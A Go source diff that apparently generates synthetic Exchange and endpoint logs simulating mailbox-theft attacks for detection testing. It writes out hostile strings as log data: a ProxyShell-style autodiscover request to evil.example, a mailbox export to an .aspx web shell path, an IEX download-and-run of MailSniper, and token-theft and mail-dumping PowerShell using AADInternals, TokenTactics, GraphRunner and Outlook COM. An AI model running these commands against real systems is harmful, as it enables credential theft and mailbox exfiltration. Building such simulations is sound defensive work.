@@ -1,0 +1,197 @@
+package otherworld
+
+import (
+	"net/netip"
+	"time"
+
+	"redshank/test/world/lines"
+)
+
+// guess are some wrong passwords and the right one, on the form.
+func (r *robbery) guess(at time.Time, wrong int) time.Time {
+	for range wrong {
+		r.saw(at, r.ip, r.victim.upn())
+		r.w.log.Form(at, r.from(), r.victim.upn(), lines.Wrong)
+		at = at.Add(r.w.seconds(15, 90))
+	}
+	r.saw(at, r.ip, r.victim.upn())
+	r.w.log.Form(at, r.from(), r.victim.upn(), lines.Right)
+	r.knows(r.victim.upn(), r.ip)
+	return at.Add(r.w.seconds(20, 200))
+}
+
+// requests are n requests to a service with name and password.
+func (r *robbery) requests(at time.Time, s lines.Service, n int, low, high float64, query string) time.Time {
+	for range n {
+		r.saw(at, r.ip, r.victim.upn())
+		r.w.log.Basic(at, r.from(), s, r.victim.down(), query, lines.Right)
+		at = at.Add(r.w.seconds(low, high))
+	}
+	return at
+}
+
+func (r *robbery) exports(at time.Time, by *person, mailbox *person) {
+	w := r.w
+	w.log.Cmdlet(at, w.domain+"/Users/"+by.name, "New-MailboxExportRequest", `-Mailbox "`+mailbox.name+`" -FilePath "\\`+w.log.Servers[0]+`\c$\temp\m.pst"`)
+}
+
+func (w *World) serverExport(r *robbery) {
+	r.agent = one(w, tools[0], tools[6], oldBrowsers[0])
+	targets := append(w.accounts(w.count(12, 40), 0.15), r.victim.aim())
+	v, a := one(w, atForm, atEWS), w.attack("AN1269", "list tried, then exported", manyway)
+	begin := r.at.Add(-w.minutes(10, 90))
+	for i, t := range targets {
+		right := lines.Verdict(0)
+		if i == len(targets)-1 {
+			right = lines.Right + 1
+		}
+		w.at(begin.Add(time.Duration(i)*r.at.Sub(begin)/time.Duration(len(targets)+1)), func(at time.Time) { w.try(a, at, r.from(), v, t, right) })
+	}
+	r.run(func(at time.Time) {
+		r.agent = "Microsoft WinRM Client"
+		for range w.count(4, 9) {
+			r.saw(at, r.ip, r.victim.upn())
+			w.log.Signed(at, r.from(), lines.PowerShell, r.victim.upn(), "", 4000)
+			at = at.Add(w.seconds(2, 30))
+		}
+		r.exports(at, r.victim, one(w, w.people...))
+	})
+}
+
+func (w *World) proxyShell(r *robbery) {
+	r.agent, r.Host = one(w, "python-requests/2.25.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/92.0", ""), w.log.Servers[0]+"."+w.domain
+	admin := w.admins[0]
+	r.run(func(at time.Time) {
+		for range w.count(6, 20) {
+			r.saw(at, r.ip, r.victim.upn())
+			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "a=" + w.token()[:5] + "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json?a=x@evil.example", Status: 200, Out: 1400})
+			at = at.Add(w.seconds(1, 8))
+		}
+		r.saw(at, r.ip, admin.upn())
+		w.log.Cmdlet(at, w.domain+"/Users/"+admin.name, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+admin.name+`"`)
+		w.log.Cmdlet(at.Add(9*time.Second), w.domain+"/Users/"+admin.name, "New-MailboxExportRequest", `-Mailbox "`+r.victim.name+`" -IncludeFolders ("#Drafts#") -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\`+w.token()[:6]+`.aspx"`)
+	})
+}
+
+func (w *World) mailSniper(r *robbery) {
+	r.ip, r.agent = w.rented(), "ExchangeServicesClient/15.00.0847.030"
+	r.run(func(at time.Time) { r.requests(at, lines.EWS, w.count(60, 300), 0.5, 6, "") })
+}
+
+func (w *World) bareEWS(r *robbery) {
+	r.ip, r.agent = w.rented(), ""
+	r.at = r.at.Truncate(24 * time.Hour).Add(hours(w.draw(span{1, 4}))).Add(-time.Duration(w.countries[0].zone) * time.Hour)
+	r.run(func(at time.Time) { r.requests(at, lines.EWS, w.count(150, 400), 0.5, 5, "") })
+}
+
+func (w *World) serverImpersonation(r *robbery) {
+	account := w.netbios + `\svc-meet`
+	home, c := netip.AddrFrom4([4]byte{10, 20, 3, 19}), lines.Client{}
+	honest := w.honest("service account in honest use on the server", w.Start, w.End())
+	agent := "ExchangeServicesClient/15.00.0913.015"
+	w.during(w.Start, w.End(), 6*time.Minute, func(at time.Time) {
+		honest.saw(home, "svc-meet@"+w.domain)
+		w.log.Basic(at, client(home, agent), lines.EWS, account, "", lines.Right)
+	})
+	r.ip = w.rented()
+	c = client(r.ip, one(w, agent, "python-requests/2.31.0", "exchangelib/5.0.3 (python-requests/2.31.0)"))
+	r.run(func(at time.Time) {
+		for range w.count(80, 300) {
+			r.saw(at, r.ip, "svc-meet@"+w.domain)
+			w.log.Basic(at, c, lines.EWS, account, "", lines.Right)
+			at = at.Add(w.seconds(1, 12))
+		}
+	})
+}
+
+func (w *World) serverOutlook(r *robbery) {
+	r.ip, r.agent = w.rented(), "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
+	r.run(func(at time.Time) {
+		w.log.NTLM(at, r.from(), lines.Autodiscover, r.victim.down(), lines.Right)
+		for range w.count(80, 250) {
+			at = at.Add(w.seconds(1, 10))
+			r.saw(at, r.ip, r.victim.upn())
+			w.log.Signed(at, r.from(), lines.MAPI, r.victim.down(), "", w.count(50_000, 900_000))
+		}
+	})
+}
+
+// download is a whole mailbox by a mail protocol, in a number of sessions.
+func (r *robbery) download(session func(at time.Time)) {
+	r.ip = one(r.w, r.w.rented(), one(r.w, r.w.foreign...).V4(r.w.rng.Uint64()))
+	r.run(func(at time.Time) {
+		for range r.w.count(3, 9) {
+			r.saw(at, r.ip, r.victim.upn())
+			session(at)
+			at = at.Add(r.w.minutes(1, 9))
+		}
+	})
+}
+
+func (w *World) serverIMAP(r *robbery) {
+	r.download(func(at time.Time) { w.log.IMAP(at, client(r.ip, ""), r.victim.upn(), lines.Right, w.count(60, 250)) })
+}
+
+func (w *World) serverPOP(r *robbery) {
+	r.download(func(at time.Time) { w.log.POP(at, client(r.ip, ""), r.victim.upn(), lines.Right, w.count(60, 250)) })
+}
+
+func (w *World) serverEAS(r *robbery) {
+	r.ip, r.agent = w.rented(), one(w, "python-requests/2.31.0", "PEAS/1.0", "")
+	query := lines.Device(r.victim.down(), w.token()[:12], one(w, "Python", "Android"), "Sync")
+	r.run(func(at time.Time) { r.requests(at, lines.EAS, w.count(60, 200), 1, 8, query) })
+}
+
+func (w *World) serverByHand(r *robbery) {
+	r.ip, r.agent = one(w, w.hosting[1:]...).V4(w.rng.Uint64()), w.current(w.Start)
+	r.run(func(at time.Time) {
+		at = r.guess(at, w.count(2, 4))
+		for range w.count(40, 120) {
+			r.saw(at, r.ip, r.victim.upn())
+			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.OWA, Stem: "/owa/service.svc", Query: "action=GetItem", User: r.victim.upn(), Status: 200, Signed: true, Out: w.count(3000, 90000)})
+			at = at.Add(w.seconds(8, 90))
+		}
+	})
+}
+
+func (w *World) scriptBlock(r *robbery) {
+	r.Host = "PC-" + w.token()[:5] + "." + w.domain
+	r.run(func(at time.Time) {
+		r.saw(at, netip.Addr{}, r.victim.upn())
+		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
+			"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/MailSniper.ps1'); Invoke-SelfSearch -Mailbox "+r.victim.upn()+" -ExchHostname mail."+w.domain,
+			"Import-Module AADInternals; $at = Get-AADIntAccessTokenForExchangeOnline -SaveToCache; Open-AADIntOWA",
+			"Import-Module .\\TokenTactics.psd1; Get-AzureToken -Client MSGraph; Invoke-RefreshToMSGraphToken -domain "+w.domain+"; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $t -mailFolder inbox -top 200",
+			". .\\GraphRunner.ps1; Get-GraphTokens; Get-Inbox -Tokens $tokens -userid "+r.victim.upn()+" -TotalMessages 50 -OutFile mail.json",
+		))
+		w.log.Query(at.Add(2*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, one(w, "outlook.office365.com", "mail."+w.domain))
+	})
+}
+
+// comScript is PowerShell that reads the mailbox through Outlook on the computer.
+func (w *World) comScript(r *robbery) {
+	r.Host = "PC-" + w.token()[:5] + "." + w.domain
+	r.run(func(at time.Time) {
+		r.saw(at, netip.Addr{}, r.victim.upn())
+		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
+			"$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI'); $f = $n.GetDefaultFolder(6); $f.Items | % { $_.SaveAs(\"$env:TEMP\\m\\$($_.EntryID).msg\") }; Compress-Archive $env:TEMP\\m $env:TEMP\\m.zip",
+			"Add-Type -AssemblyName Microsoft.Office.Interop.Outlook; $ns = (New-Object -ComObject Outlook.Application).GetNamespace('MAPI'); foreach ($i in $ns.GetDefaultFolder(6).Items) { $i.Body | Out-File -Append C:\\ProgramData\\x.txt }"))
+		w.log.Query(at.Add(4*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "transfer.invalid")
+	})
+}
+
+func (w *World) remoteExport(r *robbery) {
+	owner := r.victim
+	r.becomesAdmin()
+	r.agent = "Microsoft WinRM Client"
+	r.ip = w.rented()
+	r.run(func(at time.Time) {
+		for range w.count(4, 9) {
+			r.saw(at, r.ip, r.victim.upn())
+			w.log.Signed(at, r.from(), lines.PowerShell, r.victim.down(), "", 4000)
+			at = at.Add(w.seconds(2, 40))
+		}
+		r.saw(at, r.ip, owner.upn())
+		r.exports(at, r.victim, owner)
+	})
+}
